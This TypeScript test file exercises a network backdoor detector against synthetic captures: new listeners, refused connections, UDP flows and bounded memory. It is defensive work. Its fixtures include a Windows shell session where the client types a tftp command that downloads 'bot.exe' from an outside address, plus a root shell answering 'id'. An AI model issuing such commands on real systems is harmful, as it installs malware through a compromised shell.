import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { IpProto, TcpFlag, Packet } from '../../src/decode/packet.js';
import { BACKDOOR_DEFAULTS, createBackdoorDetector, shellSigns } from '../../src/detect/backdoor.js';
import { AgingMap } from '../../src/detect/util.js';
import { Flow } from '../../src/flow/flow.js';
import { SynthCapture, TcpConnection, UdpFlow } from '../../src/synth/traffic.js';
import { homeNet, ofType, runBehaviour } from './harness.js';

const HOST = '192.168.1.10';

/** A capture whose first ten minutes and a bit (the default warm-up) see HOST serve 80 and 443. */
function warmedUp(): SynthCapture {
  const cap = new SynthCapture(null);
  new TcpConnection(cap, '203.0.113.5:1030', `${HOST}:80`).handshake().send('client', 'GET / HTTP/1.0\r\n\r\n').send('server', 'HTTP/1.0 200 OK\r\n\r\n').close();
  cap.wait(10);
  new TcpConnection(cap, '203.0.113.6:1031', `${HOST}:443`).handshake().close();
  cap.wait(BACKDOOR_DEFAULTS.warmup);
  return cap;
}

describe('backdoor detector', () => {
  test('after a warm-up that learned 80 and 443, an accepted connection to 31337 is one backdoor, new_listener', () => {
    const cap = warmedUp();
    new TcpConnection(cap, '203.0.113.66:1042', `${HOST}:80`).handshake().close();
    new TcpConnection(cap, '203.0.113.66:1043', `${HOST}:31337`).handshake().send('client', 'hello\n').send('server', 'ok\n').close();
    new TcpConnection(cap, '203.0.113.67:1044', `${HOST}:31337`).handshake().close();
    const { events } = runBehaviour(cap, { correlate: false });
    const found = ofType(events, 'backdoor');
    assert.equal(found.length, 1, 'one record per host and port');
    const b = found[0]!.backdoor;
    assert.deepEqual([b.host, b.port, b.proto, b.client, b.reason], [HOST, 31337, 'TCP', '203.0.113.66', 'new_listener']);
    assert.deepEqual(b.known_ports, [80, 443]);
    assert.equal(b.shell_signs, undefined);
    assert.deepEqual([found[0]!.src_ip, found[0]!.dest_ip, found[0]!.dest_port], ['203.0.113.66', HOST, 31337]);
  });

  test('a listener first seen during the warm-up is learned, not reported', () => {
    const cap = new SynthCapture(null);
    new TcpConnection(cap, '203.0.113.66:1043', `${HOST}:31337`).handshake().close();
    cap.wait(BACKDOOR_DEFAULTS.warmup + 5);
    new TcpConnection(cap, '203.0.113.67:1044', `${HOST}:31337`).handshake().close();
    assert.equal(ofType(runBehaviour(cap, { correlate: false }).events, 'backdoor').length, 0);
  });

  test('a connection refused with a RST, and one never answered, are not listeners', () => {
    const cap = warmedUp();
    const refused = new TcpConnection(cap, '203.0.113.66:1050', `${HOST}:1957`);
    refused.packet('client', { seq: 100, flags: 'S' }, new Uint8Array(0));
    refused.packet('server', { seq: 0, ack: 101, flags: 'RA' }, new Uint8Array(0));
    new TcpConnection(cap, '203.0.113.66:1051', `${HOST}:1958`).packet('client', { seq: 100, flags: 'S' }, new Uint8Array(0));
    new UdpFlow(cap, '203.0.113.66:5000', `${HOST}:27015`).send('client', 'probe');
    const { events, pipeline } = runBehaviour(cap, { correlate: false });
    assert.equal(ofType(events, 'backdoor').length, 0);
    assert.equal(pipeline.behaviour!.counters()['backdoor.learned'], 2, 'only 80 and 443');
  });

  test('a Windows shell banner on a new port is reason shell, with its signs, even below min-port', () => {
    const cap = warmedUp();
    new TcpConnection(cap, '203.0.113.66:1060', `${HOST}:99`)
      .handshake()
      .send('server', 'Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\nC:\\WINNT\\system32>')
      .send('client', 'tftp -i 203.0.113.66 get bot.exe\r\n')
      .close();
    const found = ofType(runBehaviour(cap, { correlate: false }).events, 'backdoor');
    assert.equal(found.length, 1);
    const b = found[0]!.backdoor;
    assert.deepEqual([b.port, b.reason], [99, 'shell']);
    assert.ok(b.shell_signs!.includes('banner: Microsoft Windows 2000 [Version 5.00.2195]'), b.shell_signs!.join(' | '));
    assert.ok(b.shell_signs!.includes('prompt: C:\\WINNT\\system32>'), b.shell_signs!.join(' | '));
  });

  test('a unix shell (id answered by uid=0(root), a # prompt) on 1957 is reason shell with the input as a sign', () => {
    const cap = warmedUp();
    new TcpConnection(cap, '203.0.113.66:1061', `${HOST}:1957`).handshake().send('client', 'id\n').send('server', 'uid=0(root) gid=0(root)\nsh-2.05b# ').close();
    const found = ofType(runBehaviour(cap, { correlate: false }).events, 'backdoor');
    assert.equal(found.length, 1);
    assert.equal(found[0]!.backdoor.reason, 'shell');
    assert.deepEqual(found[0]!.backdoor.shell_signs, ['input: id', 'uid: uid=0(root)', 'prompt: sh-2.05b# ']);
  });

  test('a new well-known port without a shell is learned silently; an ignored port is not reported', () => {
    const cap = warmedUp();
    new TcpConnection(cap, '203.0.113.66:1062', `${HOST}:25`).handshake().send('server', '220 mail ESMTP\r\n').close();
    new TcpConnection(cap, '203.0.113.66:1063', `${HOST}:6881`).handshake().send('client', 'BitTorrent protocol').close();
    const { events, pipeline } = runBehaviour(cap, { correlate: false, detectors: { backdoor: { 'ignore-ports': [6881] } } });
    assert.equal(ofType(events, 'backdoor').length, 0);
    assert.equal(pipeline.behaviour!.counters()['backdoor.quiet_low_ports'], 2);
  });

  test("a scanner's probe meeting an open high port (no byte exchanged) is not a backdoor", () => {
    const cap = warmedUp();
    new TcpConnection(cap, '203.0.113.66:1064', `${HOST}:3389`).handshake().close();
    new TcpConnection(cap, '203.0.113.66:1065', `${HOST}:5900`).handshake().close();
    const { events, pipeline } = runBehaviour(cap, { correlate: false });
    assert.equal(ofType(events, 'backdoor').length, 0);
    assert.equal(pipeline.behaviour!.counters()['backdoor.probed_only'], 2);
  });

  test('an answered UDP datagram on a new high port is a UDP new_listener', () => {
    const cap = warmedUp();
    new UdpFlow(cap, '203.0.113.66:5000', `${HOST}:27015`).send('client', 'hello').send('server', 'welcome');
    const found = ofType(runBehaviour(cap, { correlate: false }).events, 'backdoor');
    assert.equal(found.length, 1);
    assert.deepEqual([found[0]!.backdoor.proto, found[0]!.backdoor.port, found[0]!.backdoor.reason], ['UDP', 27015, 'new_listener']);
  });

  test('shell signs: prompts and banners on the server side, typed commands on the client side, nothing in ordinary text', () => {
    assert.deepEqual(shellSigns('220 ftp.example.com FTP server ready\r\n', 1), []);
    assert.deepEqual(shellSigns('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n# ', 1).length, 1, 'a trailing "# " is a prompt wherever it is');
    assert.deepEqual(shellSigns('$ ', 1), ['prompt: $ ']);
    assert.deepEqual(shellSigns('uname -a\n', 0), ['input: uname -a']);
    assert.deepEqual(shellSigns('GET / HTTP/1.0\r\n', 0), []);
  });

  test('state stays under its caps when a million spoofed hosts and ports accept connections', () => {
    let emitted = 0;
    const options = { ...BACKDOOR_DEFAULTS, warmup: 10, 'max-hosts': 1000, 'max-ports': 2000, 'max-ports-per-host': 50, 'max-pending': 100 };
    const d = createBackdoorDetector({ emit: () => emitted++, home: homeNet() }, options);
    const p = new Packet();
    const flow = new Flow();
    p.proto = IpProto.TCP;
    flow.proto = IpProto.TCP;
    flow.ipVersion = 4;
    p.tcpFlags = TcpFlag.SYN | TcpFlag.ACK;
    p.tsSec = 1082541600;
    d.packet!(p, null, 0); // starts the warm-up clock
    p.tsSec += 20;
    flow.addr.set([0, 0, 0xffff, 0xcb007142], 0);
    let peak = 0;
    const n = 1_000_000;
    for (let i = 0; i < n; i++) {
      flow.id = i + 1;
      // The first half: a million-strong crowd of internal hosts; the second half: one host on every port.
      const host = i < n / 2 ? 0x0a000000 + i : 0x0a0000ff;
      flow.addr.set([0, 0, 0xffff, host >>> 0], 4);
      flow.serverPort = 1024 + (i % 64000);
      d.packet!(p, flow, 1);
      if (i % 1000 === 0) d.tick!(p.tsSec + Math.floor(i / 1000));
      peak = Math.max(peak, d.counters.hosts!, d.counters.pending!);
      if (d.counters.ports! > 2000) assert.fail(`ports ${d.counters.ports}`);
    }
    d.finish!();
    assert.ok(peak <= 1000, String(peak));
    assert.ok(d.counters.evicted_hosts! > 0);
    assert.ok(d.counters.evicted_pending! > 0);
    assert.ok(d.counters.evicted_ports! > 0, 'the one host on every port forgets its oldest');
    assert.equal(d.counters.pending, 0);
    assert.equal(d.counters.errors, 0);
    assert.equal(emitted, d.counters.events);
  });

  test('AgingMap keeps at most its cap, keeps what is used, and hands what it drops to its callback', () => {
    const dropped: number[] = [];
    const m = new AgingMap<number, number>(10, (v) => dropped.push(v));
    m.set(0, 0);
    for (let i = 1; i < 100; i++) {
      m.set(i, i);
      assert.equal(m.get(0), 0, 'used every time: never dropped');
      assert.ok(m.size <= 10);
    }
    assert.equal(m.evicted, dropped.length);
    assert.ok(!dropped.includes(0));
    assert.equal(m.get(1), undefined);
  });
});
